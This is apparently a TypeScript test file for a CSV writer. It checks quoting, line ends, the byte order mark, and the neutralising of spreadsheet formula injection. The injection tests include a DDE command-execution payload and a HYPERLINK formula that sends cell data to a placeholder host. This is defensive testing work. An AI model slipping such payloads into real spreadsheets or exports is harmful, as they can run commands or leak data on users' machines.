import assert from 'node:assert/strict';
import fc from 'fast-check';
import { describe, it } from 'mocha';
import { csvText } from '../../../../src/core/results/csvText.ts';

describe('csvText', () => {
  const table: readonly (readonly [title: string, rows: readonly (readonly string[])[], csv: string])[] = [
    [
      'ends rows with CRLF',
      [
        ['a', 'b'],
        ['1', '2.5'],
      ],
      'a,b\r\n1,2.5\r\n',
    ],
    [
      'quotes fields with commas, quotation marks and line ends',
      [['a,b', 'say "hi"', 'x\ny', 'x\ry']],
      '"a,b","say ""hi""","x\ny","x\ry"\r\n',
    ],
    ['keeps whitespace at the ends', [[' a', 'b ', 'c d']], '" a","b ",c d\r\n'],
    ['leaves empty fields empty', [['', 'x', '']], ',x,\r\n'],
    ['writes a row of one empty field', [['a'], [''], ['b']], 'a\r\n""\r\nb\r\n'],
    ['writes an empty row as an empty line', [['a'], [], ['b']], 'a\r\n\r\nb\r\n'],
    ['adds a byte order mark for non-ASCII text', [['длина', 'ÿ']], '\ufeffдлина,ÿ\r\n'],
    ['returns nothing for no rows', [], ''],
  ];
  for (const [title, rows, csv] of table) {
    it(title, () => {
      assert.deepEqual(csvText(rows), { csv, isGuarded: false });
    });
  }

  for (const text of [
    '=1+1',
    '=HYPERLINK("http://x/?"&A1)',
    '@SUM(A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '\t=1',
    '\r=1',
    '＝1+1',
    '-A1',
    '+',
    '-',
    '-.',
  ]) {
    it(`neutralizes the formula ${JSON.stringify(text)}`, () => {
      const { csv, isGuarded } = csvText([['a', text]]);
      assert.equal(isGuarded, true);
      assert.match(csv, /^\ufeff?a,"?'/);
    });
  }

  for (const text of [
    '-1',
    '+1',
    '-1.5',
    '-.5',
    '-1.',
    '-1.5e-10',
    '+2E+5',
    '-Inf',
    '-NaN',
    '-1//2',
    '-1 + 2im',
    '-1.0 - 2.5e-3im',
    '-2im',
    '-5%',
    '1=1',
    'a@b',
    '2-1',
    '',
  ]) {
    it(`keeps ${JSON.stringify(text)}, which is not a formula`, () => {
      assert.deepEqual(csvText([['a', text]]), { csv: `a,${text}\r\n`, isGuarded: false });
    });
  }

  it('writes CSV that parses to the same rows', () => {
    const field = fc.string({ unit: fc.constantFrom('a', '"', ',', '\r', '\n', ' ', 'é', '=', '-', '1') });
    fc.assert(
      fc.property(fc.array(fc.array(field, { minLength: 1, maxLength: 4 }), { maxLength: 5 }), (rows) => {
        const read = readCsv(csvText(rows).csv.replace('\ufeff', '')).map((row) =>
          row.map((text) => text.replace(/^'/, '')),
        );
        assert.deepEqual(read, rows);
      }),
    );
  });
});

/** A parser for RFC 4180. */
function readCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let isQuoted = false;
  for (let at = 0; at < csv.length; at++) {
    const sign = csv.charAt(at);
    if (isQuoted && sign === '"' && csv.charAt(at + 1) === '"') {
      field += '"';
      at += 1;
    } else if (sign === '"') isQuoted = !isQuoted;
    else if (!isQuoted && sign === ',') {
      row.push(field);
      field = '';
    } else if (!isQuoted && sign === '\r' && csv.charAt(at + 1) === '\n') {
      rows.push([...row, field]);
      [row, field] = [[], ''];
      at += 1;
    } else field += sign;
  }
  return rows;
}
